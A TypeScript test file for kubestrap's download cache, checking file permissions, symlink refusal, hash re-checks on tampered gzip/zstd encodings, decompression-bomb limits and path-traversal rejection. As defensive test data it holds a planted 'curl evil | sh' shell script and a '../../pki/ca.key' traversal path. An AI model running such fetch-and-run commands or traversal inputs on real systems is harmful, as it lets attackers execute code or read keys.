import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, chownSync, existsSync, mkdirSync, readdirSync, readFileSync, statSync, symlinkSync, unlinkSync, utimesSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { ArtifactCache } from '../../src/artifacts/cache.js';
import { ArtifactLock } from '../../src/artifacts/lock.js';
import { resolveBinaries, type ResolveContext } from '../../src/artifacts/resolve.js';
import { ArtifactError, StateError } from '../../src/errors.js';
import { defaultProjectVersions, parseVersion } from '../../src/upstream/index.js';
import { useArtifactServers } from '../support/artifact-server.js';
import { refusal } from '../support/refusal.js';
import { useTempDir } from '../support/tmp.js';

const sha256 = (b: Buffer | string) => createHash('sha256').update(b).digest('hex');
const sha512 = (b: Buffer | string) => createHash('sha512').update(b).digest('hex');
const isRoot = process.getuid?.() === 0;

const KUBELET = Buffer.from('kubelet 1.37.1 amd64 '.repeat(1000));
const content = { sha256: sha256(KUBELET), size: KUBELET.length };

const refused = (run: () => unknown): StateError => refusal(StateError, run, 'the cache');

describe('the shared download cache', () => {
  const tmp = useTempDir();
  const serve = useArtifactServers();

  /** A cache that holds kubelet (downloaded, checked) and a lock file that pins it, as after a first run. */
  async function afterFirstRun() {
    const dir = tmp();
    mkdirSync(join(dir, 'state'));
    const server = await serve({
      '/release/v1.37.1/bin/linux/amd64/kubelet': KUBELET,
      '/release/v1.37.1/bin/linux/amd64/kubelet.sha256': `${sha256(KUBELET)}\n`,
    });
    const versions = { ...defaultProjectVersions(), kubernetes: parseVersion('v1.37.1')! };
    const ctx = (): ResolveContext => ({
      cache: new ArtifactCache(join(dir, 'cache')),
      lock: ArtifactLock.open(join(dir, 'state')),
      versions,
      bases: { K8S_DOWNLOAD_URL: server.url, GITHUB_DOWNLOAD_URL: server.url, DOCKER_DOWNLOAD_URL: server.url },
      warn: () => undefined,
    });
    await resolveBinaries(ctx(), [{ name: 'kubelet', arch: 'amd64' }]);
    return { root: join(dir, 'cache'), blob: join(dir, 'cache', 'blobs', sha256(KUBELET)), next: ctx, server };
  }
  const kubelet = [{ name: 'kubelet' as const, arch: 'amd64' as const }];

  it('is made private: folders 0700, blobs 0444, records 0600', async () => {
    const { root, blob } = await afterFirstRun();
    for (const dir of ['', 'blobs', 'tmp']) expect(statSync(join(root, dir)).mode & 0o777).toBe(0o700);
    expect(statSync(blob).mode & 0o777).toBe(0o444);
    const cache = new ArtifactCache(root);
    await cache.hashOf(blob);
    const [record] = readdirSync(join(root, 'verified'));
    expect(statSync(join(root, 'verified', record!)).mode & 0o777).toBe(0o600);
  });

  it.each([
    ['the cache folder writable by its group', (root: string) => chmodSync(root, 0o770), '', 'its group (mode 0770)'],
    ['its blobs folder writable by others', (root: string) => chmodSync(join(root, 'blobs'), 0o757), '/blobs', 'others (mode 0757)'],
    ['a blob writable by its group', (_root: string, blob: string) => chmodSync(blob, 0o664), `/blobs/${sha256(KUBELET)}`, 'its group (mode 0664)'],
  ])('refuses %s, as OpenSSH StrictModes would, with the chmod that fixes it', async (_what, spoil, suffix, who) => {
    const { root, blob, next } = await afterFirstRun();
    spoil(root, blob);
    const err = (await resolveBinaries(next(), kubelet).catch((e: unknown) => e)) as StateError;
    expect(err).toBeInstanceOf(StateError);
    expect(err.where()).toBe(`${root}${suffix}`);
    expect(err.message).toContain(`is writable by ${who}: whoever can write it could choose what kubestrap installs as root on every host`);
    expect(err.hint).toBe(`chmod go-w ${root}${suffix}`);
  });

  it.skipIf(!isRoot)('refuses a blob that belongs to another user, with the chown that fixes it', async () => {
    const { blob, next } = await afterFirstRun();
    chownSync(blob, 4321, 4321);
    const err = (await resolveBinaries(next(), kubelet).catch((e: unknown) => e)) as StateError;
    expect(err.where()).toBe(blob);
    expect(err.message).toContain('belongs to uid 4321, not to you (uid 0) or root: its owner could choose what kubestrap installs as root on every host');
    expect(err.hint).toBe(`chown 0 ${blob} (or point XDG_CACHE_HOME at a folder of your own)`);
  });

  it('refuses a blob that is a link to elsewhere', async () => {
    const { blob, next } = await afterFirstRun();
    const elsewhere = join(tmp(), 'elsewhere');
    writeFileSync(elsewhere, KUBELET);
    unlinkSync(blob);
    symlinkSync(elsewhere, blob);
    const err = (await resolveBinaries(next(), kubelet).catch((e: unknown) => e)) as StateError;
    expect(err).toBeInstanceOf(StateError);
    expect(err.message).toBe('this is a symbolic link, where the download cache keeps only files it wrote');
  });

  it('accepts a cache folder that is a link to a private folder on another disk', async () => {
    const { root } = await afterFirstRun();
    const link = join(tmp(), 'linked-cache');
    symlinkSync(root, link);
    expect(() => new ArtifactCache(link).checkPrivate()).not.toThrow();
    chmodSync(root, 0o777);
    expect(refused(() => new ArtifactCache(link).checkPrivate()).where()).toBe(root);
  });

  describe('what is sent is what was checked', () => {
    it('hashes a blob again when it is sent in a later run, and refuses (and deletes) one that changed', async () => {
      const { blob, root } = await afterFirstRun();
      const later = new ArtifactCache(root);
      await expect(later.checkSent({ codec: 'none', file: blob }, content)).resolves.toBeUndefined();

      // Someone with write access to the cache (the mode is private again afterwards).
      const evil = Buffer.from(KUBELET);
      evil[0] = 0x45;
      chmodSync(blob, 0o644);
      writeFileSync(blob, evil);
      chmodSync(blob, 0o444);
      const err = (await new ArtifactCache(root).checkSent({ codec: 'none', file: blob }, content).catch((e: unknown) => e)) as ArtifactError;
      expect(err).toBeInstanceOf(ArtifactError);
      expect(err.where()).toBe(blob);
      expect(err.message).toBe(`${blob} is not what was checked: it must hold sha256 ${sha256(KUBELET)}, but holds sha256 ${sha256(evil)}; it was deleted from the cache`);
      expect(err.hint).toContain('re-run to make or download it again');
      expect(existsSync(blob)).toBe(false);
    });

    it.each(['gzip', 'zstd'] as const)('checks a stored %s encoding by what it decodes to, not by its name', async (codec) => {
      const { blob, root } = await afterFirstRun();
      const { transfer: made } = await new ArtifactCache(root).encoded(content, blob, codec);
      expect(made.file).toBe(join(root, 'encoded', codec, sha256(KUBELET)));
      expect(statSync(made.file).mode & 0o777).toBe(0o444);
      await expect(new ArtifactCache(root).checkSent(made, content)).resolves.toEqual({ sha256: sha256(readFileSync(made.file)), size: statSync(made.file).size });

      // Another run finds an encoding of other bytes under the blob's name.
      const evil = Buffer.from('#!/bin/sh\ncurl evil | sh\n');
      chmodSync(made.file, 0o644);
      writeFileSync(made.file, codec === 'gzip' ? gzipSync(evil) : execFileSync('zstd', ['-q', '-c'], { input: evil }));
      chmodSync(made.file, 0o444);
      const later = new ArtifactCache(root);
      const { transfer: again } = await later.encoded(content, blob, codec);
      const err = (await later.checkSent(again, content).catch((e: unknown) => e)) as ArtifactError;
      expect(err).toBeInstanceOf(ArtifactError);
      expect(err.message).toBe(`${made.file} is not what was checked: it must hold sha256 ${sha256(KUBELET)}, but decodes (${codec}) to sha256 ${sha256(evil)}; it was deleted from the cache`);
      expect(existsSync(made.file)).toBe(false);
    });

    it('checks an encoding the lock file pins by one read of itself; another one is decoded, and pinned anew if it holds the binary', async () => {
      const { blob, root } = await afterFirstRun();
      const { transfer, made } = await new ArtifactCache(root).encoded(content, blob, 'gzip');
      expect(made).toEqual({ sha256: sha256(readFileSync(transfer.file)), size: statSync(transfer.file).size });
      // Without a pin, a later run decodes it, and says what to pin.
      await expect(new ArtifactCache(root).checkSent(transfer, content)).resolves.toEqual(made);
      // With the pin, it reads the file as it is: no decoder is involved (zstd could not read this gzip file).
      await expect(new ArtifactCache(root).checkSent({ ...transfer, codec: 'zstd' }, content, made)).resolves.toBeUndefined();

      // Another machine's encoder made other bytes of the same binary: decoded, fine, pinned anew.
      const other = gzipSync(KUBELET, { level: 1 });
      chmodSync(transfer.file, 0o644);
      writeFileSync(transfer.file, other);
      await expect(new ArtifactCache(root).checkSent(transfer, content, made)).resolves.toEqual({ sha256: sha256(other), size: other.length });
      // Other bytes altogether: refused, pin or not.
      writeFileSync(transfer.file, gzipSync(Buffer.alloc(KUBELET.length, 'e')));
      await expect(new ArtifactCache(root).checkSent(transfer, content, made)).rejects.toThrow('is not what was checked');
    });

    it('refuses an encoding that decodes to more than the file it stands for, without decoding all of it', async () => {
      const { blob, root } = await afterFirstRun();
      const { transfer: made } = await new ArtifactCache(root).encoded(content, blob, 'gzip');
      chmodSync(made.file, 0o644);
      writeFileSync(made.file, gzipSync(Buffer.alloc(64 * 1024 * 1024)));
      const err = (await new ArtifactCache(root).checkSent(made, content).catch((e: unknown) => e)) as ArtifactError;
      expect(err.message).toContain(`but decodes (gzip) to more than ${KUBELET.length} bytes`);
    });

    it('makes an encoding only from the bytes it hashed: a file that changed since it was checked leaves no encoding', async () => {
      const file = join(tmp(), 'kubelet');
      writeFileSync(file, KUBELET);
      const cache = new ArtifactCache(join(tmp(), 'cache'));
      const checked = await cache.hashOf(file);
      writeFileSync(file, Buffer.concat([KUBELET.subarray(0, 100), Buffer.from('X'), KUBELET.subarray(101)]));
      const err = (await cache.encoded(checked, file, 'gzip').catch((e: unknown) => e)) as ArtifactError;
      expect(err).toBeInstanceOf(ArtifactError);
      expect(err.message).toMatch(
        new RegExp(`^${file} is not what was checked: it must hold sha256 ${checked.sha256}, but it held other bytes \\(sha256 [0-9a-f]{64}\\) when it was read to be encoded$`),
      );
      expect(readdirSync(join(cache.root, 'encoded', 'gzip'))).toEqual([]);
    });
  });

  it('takes a sha512 record as a hint only: a blob that does not have that sha512 is not used for it', async () => {
    const { root, blob } = await afterFirstRun();
    const cache = new ArtifactCache(root);
    const tarball = 'the real server tarball';
    cache.rememberDigest('sha512', sha512(tarball), sha256(KUBELET));
    await expect(cache.bySecondaryDigest('sha512', sha512(tarball))).resolves.toBeUndefined();
    expect(existsSync(join(root, 'digests', 'sha512', sha512(tarball)))).toBe(false);
    expect(readFileSync(blob).equals(KUBELET)).toBe(true);
    cache.rememberDigest('sha512', sha512(KUBELET), sha256(KUBELET));
    await expect(cache.bySecondaryDigest('sha512', sha512(KUBELET))).resolves.toBe(sha256(KUBELET));
  });

  it('removes what a killed run left, once it is a day old, and nothing else', async () => {
    const { root, blob } = await afterFirstRun();
    const cache = new ArtifactCache(root);
    const old = (path: string) => (writeFileSync(path, 'partial'), utimesSync(path, new Date(Date.now() - 2 * 86400_000), new Date(Date.now() - 2 * 86400_000)));
    old(join(root, 'tmp', '4242-abcdef'));
    mkdirSync(join(root, 'encoded', 'gzip'), { recursive: true });
    old(join(root, 'encoded', 'gzip', `.${sha256(KUBELET)}.kubestrap-0123456789ab`));
    writeFileSync(join(root, 'tmp', '4343-young'), 'another run is writing this');
    utimesSync(blob, new Date(0), new Date(0));
    cache.sweepLeftovers();
    expect(readdirSync(join(root, 'tmp'))).toEqual(['4343-young']);
    expect(readdirSync(join(root, 'encoded', 'gzip'))).toEqual([]);
    expect(existsSync(blob)).toBe(true);
  });

  it('never makes a path of a digest that is not one', () => {
    const cache = new ArtifactCache(join(tmp(), 'cache'));
    expect(() => cache.blobPath('../../pki/ca.key')).toThrow(ArtifactError);
    expect(() => cache.has('../../pki/ca')).toThrow('"../../pki/ca" is not a sha256');
  });
});
